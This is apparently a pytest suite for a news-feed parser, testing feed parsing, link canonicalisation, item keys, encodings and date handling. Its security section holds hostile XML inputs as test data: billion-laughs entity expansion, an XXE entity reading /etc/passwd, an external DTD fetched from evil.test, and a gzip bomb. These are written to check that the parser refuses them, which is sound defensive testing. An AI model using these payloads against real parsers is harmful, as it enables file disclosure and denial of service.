"""Feed parsing on real captured feeds from ../shared/newsroom (and a few built here)."""

from __future__ import annotations

import json

import pytest

from transforms.feeds import FeedParseError, parse_feed, read_feed


def _feed(shared_dir, name: str) -> bytes:
    return (shared_dir / "newsroom" / "feeds" / name).read_bytes()


def _manifest(shared_dir) -> dict[str, dict]:
    entries = json.loads((shared_dir / "newsroom" / "manifest.json").read_text())["entries"]
    return {e["path"]: e for e in entries if e["kind"] == "feed"}


def test_every_well_formed_feed_yields_its_items(shared_dir):
    broken = {"feeds/dylanharris-malformed.xml", "feeds/reuters-mostread-truncated.xml"}
    for path, entry in _manifest(shared_dir).items():
        if path in broken:
            continue
        parsed = parse_feed((shared_dir / "newsroom" / path).read_bytes(), source_id="s",
                            url=entry["url"] or "https://example.org/feed")
        # items repeated inside one feed (Al-Monitor) are folded, so <= the manifest's count
        assert 0 < len(parsed.items) <= entry["items"], path
        with_links = [i for i in parsed.items if i.link]
        assert len(with_links) == len(parsed.items), path
        assert all(i.link.startswith("http") for i in with_links), path


@pytest.mark.parametrize("name,reason", [
    ("dylanharris-malformed.xml", "feed_malformed"),
    ("reuters-mostread-truncated.xml", "feed_malformed"),
])
def test_broken_feeds_raise_with_a_reason(shared_dir, name, reason):
    with pytest.raises(FeedParseError) as info:
        parse_feed(_feed(shared_dir, name), source_id="s", url="https://example.org/feed")
    assert info.value.reason == reason
    assert info.value.detail


def test_html_page_is_not_a_feed():
    with pytest.raises(FeedParseError) as info:
        parse_feed(b"<html><body><p>hello</p></body></html>", source_id="s",
                   url="https://example.org/")
    assert info.value.reason in ("not_a_feed", "feed_malformed")


def test_empty_body():
    with pytest.raises(FeedParseError) as info:
        parse_feed(b"  \n", source_id="s", url="https://example.org/")
    assert info.value.reason == "feed_empty"


def test_tracking_parameters_stripped_and_ids_stable(shared_dir):
    data = _feed(shared_dir, "bbc-news-world.xml")
    a = parse_feed(data, source_id="bbc", url="https://feeds.bbci.co.uk/news/world/rss.xml")
    b = parse_feed(data, source_id="bbc", url="https://feeds.bbci.co.uk/news/world/rss.xml")
    assert [i.item_id for i in a.items] == [i.item_id for i in b.items]
    assert len({i.item_id for i in a.items}) == len(a.items)
    first = a.items[0]
    assert "at_medium" in first.link and "at_medium" not in first.canonical_link
    assert first.published_at is not None and first.published_at.utcoffset().total_seconds() == 0


def test_relative_links_resolved_against_the_feed(shared_dir):
    url = "http://talkingpointsmemo.com/feed/all"
    parsed = parse_feed(_feed(shared_dir, "talkingpointsmemo-atom.xml"), source_id="tpm", url=url)
    assert all(i.link.startswith("http://talkingpointsmemo.com/") for i in parsed.items)


@pytest.mark.parametrize("name,redirector,target", [
    ("jn-pt-latin1.xml", "feeds.jn.pt", "www.jn.pt"),                        # feedburner:origLink
    ("washingtonpost-wellness.xml", "click.phdo", "www.washingtonpost.com"),  # pheedo:origLink
])
def test_origlink_followed(shared_dir, name, redirector, target):
    parsed = parse_feed(_feed(shared_dir, name), source_id="s", url="https://example.org/feed")
    assert all(redirector in i.link for i in parsed.items)
    followed = [i for i in parsed.items if target in i.canonical_link]  # ad items have none
    assert len(followed) >= 0.8 * len(parsed.items)
    assert not any("wprss" in i.canonical_link for i in followed)


def test_repeated_items_within_a_feed_are_folded(shared_dir):
    parsed = parse_feed(_feed(shared_dir, "al-monitor.xml"), source_id="am",
                        url="https://www.al-monitor.com/rss")
    assert len({i.item_id for i in parsed.items}) == len(parsed.items)


def test_legacy_encodings_decode(shared_dir):
    parsed = parse_feed(_feed(shared_dir, "oren-ru-cp1251.xml"), source_id="oren",
                        url="http://www.oren.ru/rss")
    assert any(any("\u0400" <= ch <= "\u04ff" for ch in (i.title or "")) for i in parsed.items)


def test_max_items():
    items = "".join(f"<item><title>t{i}</title><link>https://e.org/{i}</link></item>"
                    for i in range(10))
    doc = f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{items}</channel></rss>'
    parsed = parse_feed(doc.encode(), source_id="s", url="https://e.org/feed", max_items=3)
    assert [i.title for i in parsed.items] == ["t0", "t1", "t2"]


def _rss(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (f'{head}<rss version="2.0"><channel><title>x</title><link>https://e.org/</link>'
            f"{items}</channel></rss>").encode()


# --- security: no entities -------------------------------------------------------------------

BILLION_LAUGHS = _rss("<item><title>&lol3;</title><link>https://e.org/a</link></item>",
                      head='<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                           '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')


@pytest.mark.parametrize("doc", [
    BILLION_LAUGHS,
    _rss("<item><title>&xxe;</title><link>https://e.org/a</link></item>",
         head='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    _rss("<item><title>x</title><link>https://e.org/a</link></item>",
         head='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]>'),
    # not well formed after the DOCTYPE: the scan still sees the declarations
    b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><rss><channel><title>&b;</ti',
], ids=["billion-laughs", "xxe-file", "external-parameter-entity", "malformed-with-entities"])
def test_entity_declarations_are_refused(doc):
    with pytest.raises(FeedParseError) as info:
        parse_feed(doc, source_id="s", url="https://e.org/feed")
    assert info.value.reason == "xml_entities_forbidden"


def test_a_public_doctype_without_entities_is_fine():
    doc = _rss("<item><title>t</title><link>https://e.org/a</link></item>",
               head='<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD '
                    'RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    assert len(parse_feed(doc, source_id="s", url="https://e.org/feed").items) == 1


def test_a_feed_that_is_a_file_name_is_not_opened(tmp_path):
    """feedparser opens a str (or bytes) naming a file; we always hand it a byte stream."""
    secret = tmp_path / "secret.xml"
    secret.write_bytes(_rss("<item><title>leak</title><link>https://e.org/a</link></item>"))
    with pytest.raises(FeedParseError):
        parse_feed(str(secret).encode(), source_id="s", url="https://e.org/feed")


# --- keys, fingerprints, dates ---------------------------------------------------------------

def test_guid_shared_by_different_items_is_not_used_as_key():
    items = "".join(f"<item><guid>https://e.org/feed</guid><title>t{i}</title>"
                    f"<link>https://e.org/{i}</link></item>" for i in range(3))
    parsed = parse_feed(_rss(items), source_id="s", url="https://e.org/feed")
    assert len(parsed.items) == 3 and all(i.guid is None for i in parsed.items)


def test_item_key_prefers_guid_then_canonical_link_then_title_and_date():
    doc = _rss("<item><guid>urn:uuid:1234-abcd</guid><title>a</title><link>https://e.org/a</link></item>"
               "<item><title>b</title><link>https://e.org/b?utm_source=rss</link></item>"
               "<item><title>c</title><pubDate>Tue, 17 Feb 2026 18:55:33 GMT</pubDate></item>")
    a, b, c = parse_feed(doc, source_id="s", url="https://e.org/feed").items
    from transforms.ids import stable_id
    assert a.item_id == stable_id("s", "urn:uuid:1234-abcd")
    assert b.item_id == stable_id("s", "https://e.org/b")
    assert c.item_id == stable_id("s", "c|2026-02-17T18:55:33+00:00") and c.link is None


def test_guid_urls_with_tracking_parameters_keep_one_key():
    one = _rss("<item><guid>https://e.org/a?utm_source=x</guid><title>a</title>"
               "<link>https://e.org/a</link></item>")
    two = _rss("<item><guid>https://e.org/a?utm_source=y</guid><title>a</title>"
               "<link>https://e.org/a</link></item>")
    assert parse_feed(one, source_id="s", url="u").items[0].item_id == \
        parse_feed(two, source_id="s", url="u").items[0].item_id


def test_fingerprint_changes_with_the_item_not_with_the_run():
    v1 = _rss("<item><guid>id-1234</guid><title>a</title><link>https://e.org/a</link></item>")
    v2 = _rss("<item><guid>id-1234</guid><title>a (updated)</title><link>https://e.org/a</link></item>")
    (x,), (y,), (z,) = (parse_feed(d, source_id="s", url="u").items for d in (v1, v1, v2))
    assert x.fingerprint == y.fingerprint != z.fingerprint and x.item_id == z.item_id


def test_future_dates_are_flagged_and_not_used():
    from datetime import datetime, timezone
    doc = _rss("<item><title>a</title><link>https://e.org/a</link>"
               "<pubDate>Tue, 17 Feb 2099 18:55:33 GMT</pubDate></item>")
    (item,) = parse_feed(doc, source_id="s", url="u",
                         now=datetime(2026, 2, 18, tzinfo=timezone.utc)).items
    assert item.published_flag == "future" and item.published_at is None
    assert item.published_raw == "Tue, 17 Feb 2099 18:55:33 GMT"


def test_non_http_links_are_not_links():
    doc = _rss("<item><title>a</title><link>javascript:alert(1)</link></item>"
               "<item><title>b</title><link>mailto:x@e.org</link></item>")
    assert [i.link for i in parse_feed(doc, source_id="s", url="u").items] == [None, None]


def test_decoding_is_reported():
    doc = ('<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel>'
           "<title>\u041d\u043e\u0432\u043e\u0441\u0442\u0438</title><item><title>\u041c\u0438\u0440</title>"
           "<link>https://e.org/a</link></item></channel></rss>").encode("cp1251")
    got = read_feed(doc, source_id="s", url="u")
    assert (got.encoding, got.encoding_source) == ("cp1251", "declared")
    assert got.feed.items[0].title == "\u041c\u0438\u0440"
    http = read_feed(doc, source_id="s", url="u", content_type="application/xml; charset=windows-1251")
    assert http.encoding_source == "http"


def test_a_gzip_bomb_body_is_capped():
    import gzip
    bomb = gzip.compress(b"<rss>" + b" " * 5_000_000 + b"</rss>")
    with pytest.raises(FeedParseError) as info:
        read_feed(bomb, source_id="s", url="u", max_bytes=1_000_000)
    assert info.value.reason == "too_large_decompressed"
